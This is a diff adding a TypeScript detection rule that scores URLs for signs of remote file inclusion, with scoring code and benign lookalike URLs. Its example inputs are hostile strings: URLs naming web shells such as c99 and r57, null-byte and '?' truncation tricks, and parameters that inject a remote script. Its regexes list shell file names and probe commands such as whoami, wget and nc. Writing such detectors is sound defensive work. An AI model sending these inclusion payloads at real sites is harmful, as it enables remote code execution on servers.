@@ -1,0 +1,128 @@
+import { isDigit } from '../../text/char-class.ts';
+import type { Url, UrlPlace } from '../../tokenise/url.ts';
+import type { ValueRule } from '../rule.ts';
+import type { Subject } from '../subject.ts';
+import { isIncludeMember, strongestUrl } from './place.ts';
+
+/** A URL in the shape that an `include` needs: a script as text, and a mark that cuts off what is appended. */
+export const remoteScript: ValueRule = {
+  id: 'rfi.remote-script',
+  category: 'rfi',
+  cwe: 'CWE-98',
+  severity: 'critical',
+  score: 88,
+  message: 'names a script on another machine so that an include runs it here',
+  trigger: {
+    literals: [
+      ['http', 'ftp', '//', '\\\\'],
+      [
+        '.txt',
+        '.php',
+        '.asp',
+        '.jsp',
+        '.inc',
+        '.gif',
+        '.jpg',
+        '.png',
+        '.dat',
+        '.htm',
+        '.cgi',
+        '.pl',
+        '.py',
+        '.log',
+        '.cfm',
+        '.sh',
+        '?',
+        '\u0000',
+        '%00',
+      ],
+    ],
+  },
+  judge: (subject) => strongestUrl(subject, (url, place) => scoreOf(subject, url, place)),
+  examples: [
+    'http://files.example.net/c99.txt?',
+    'https://203.0.113.9/shell.php?cmd=id',
+    '/main.php?root_path=http://203.0.113.9/x.txt',
+    'ftp://files.example.net/r57.txt',
+    '//files.example.net/shell.txt%00',
+    '/a.php?b=http://files.example.net/any??',
+    'http://files.example.net/page.php\u0000',
+    { body: { include: 'http://files.example.net/menu.txt' } },
+  ],
+  lookalikes: [
+    'https://www.example.com/index.php?id=7&cmd=show',
+    'https://www.example.com/robots.txt',
+    '/login.php?next=https://www.example.com/index.php?a=1',
+    'the list is at http://www.example.com/names.txt, have a look',
+    'https://www.example.com/search?q=what%3F',
+    '//cdn.example.net/lib/app.js?v=1.2',
+    'https://www.example.com/?',
+  ],
+};
+
+function scoreOf(subject: Subject, url: Url, place: UrlPlace): number {
+  if (!isIncludeScheme(url.scheme) || (place !== 'whole' && place !== 'parameter')) return 0;
+  const text = subject.text;
+  const end = Math.min(url.end, url.pathStart + pathCharsMax);
+  const target = text.slice(url.pathStart, end).toLowerCase();
+  const cut = target.search(pathEnd);
+  const file = cut < 0 ? target : target.slice(0, cut);
+  const mark = cut < 0 ? '' : target.slice(cut);
+  const name = file.slice(file.lastIndexOf('/') + 1);
+  if (shellNames.test(name)) return 88;
+  const isScript = scriptName.test(name);
+  const isCut = isCutMark(mark, subject.decoded);
+  const isEmbedded = place === 'parameter' && isScriptCall(text, url.start);
+  if (isScript && (isCut || command.test(mark))) return 86;
+  if (url.slashes > 1 && isEmbedded) {
+    if (command.test(mark)) return 84;
+    if (isCut && (mark !== '?' || isAddress(text, url) || name !== '')) return 82;
+    if (textName.test(name) || (isScript && isAddress(text, url))) return 80;
+  }
+  if (textName.test(name) && isIncludeMember(subject.member)) return url.scheme === 'ftp' ? 82 : 74;
+  if (isScript && url.scheme !== 'https' && isIncludeMember(subject.member)) return 55;
+  return 0;
+}
+
+const pathCharsMax = 300;
+const pathEnd = /[?#'\u0000]|%00|%23|%3f/;
+const includeSchemes: ReadonlySet<string> = new Set(['http', 'https', 'ftp', 'ftps', '']);
+
+/** Also behind a parameter name that has lost its `=`. */
+function isIncludeScheme(scheme: string): boolean {
+  return includeSchemes.has(scheme) || scheme.endsWith('http');
+}
+
+const scriptName =
+  /\.(?:txt|php[3457]?|phtml|inc|aspx?|jspx?|cgi|pl|py|cfm|gif|jpe?g|png|dat|log)$/;
+const textName = /\.(?:txt|inc|dat)$/;
+
+/** Names under which web shells are passed on. */
+const shellNames =
+  /^(?:c99|r57|c100|b374k|wso\d*|weevely|p0wny|alfa|indoxploit|mini|marijuana|web-?shell|(?:php-?)?(?:reverse-?)?shell\d*|backdoor|evil|cmd|pwn(?:ed)?|exploit|payload|rfi(?:inc|_vuln)?|rce|id)\.(?:txt|php[3457]?|phtml|inc|gif|jpe?g|png|asp|jsp|dat)$/;
+
+/** `?cmd=id`, `?&cmd=ls`, `?c=whoami` */
+const command =
+  /^\?{1,2}&?(?:cmd|c|exec|command|x|e|run|0)=(?:id|ls|dir|pwd|whoami|uname|cat|ping|phpinfo|wget|curl|net|ver|ps|echo|type|ipconfig|ifconfig|nc)\b/;
+
+/** The URL ends in a mark that makes a query, a fragment or nothing of what the script appends. */
+function isCutMark(mark: string, decoded: readonly string[]): boolean {
+  if (mark === '') return false;
+  // A literal `\x00` is no null byte to what reads URLs.
+  if (mark.startsWith('\u0000')) return !decoded.includes('js-escape');
+  return cutMark.test(mark);
+}
+
+const cutMark = /^(?:\?{1,3}(?:&.{0,80}|[=';#"]{0,4})?|#|%00|%23|%3f)$/;
+
+/** Is the URL a parameter of a script: `/x.php?dir=`? */
+function isScriptCall(text: string, urlStart: number): boolean {
+  return scriptCall.test(text.slice(Math.max(0, urlStart - 160), urlStart));
+}
+
+const scriptCall =
+  /\.(?:php[3457]?|phtml|asp|aspx|jsp|cgi|pl|cfm|inc|exe|nsf|html?|do|action)[?/][^\s]{0,150}$/i;
+
+function isAddress(text: string, url: Url): boolean {
+  return isDigit(text.charCodeAt(url.hostStart)) && isDigit(text.charCodeAt(url.hostEnd - 1));
+}
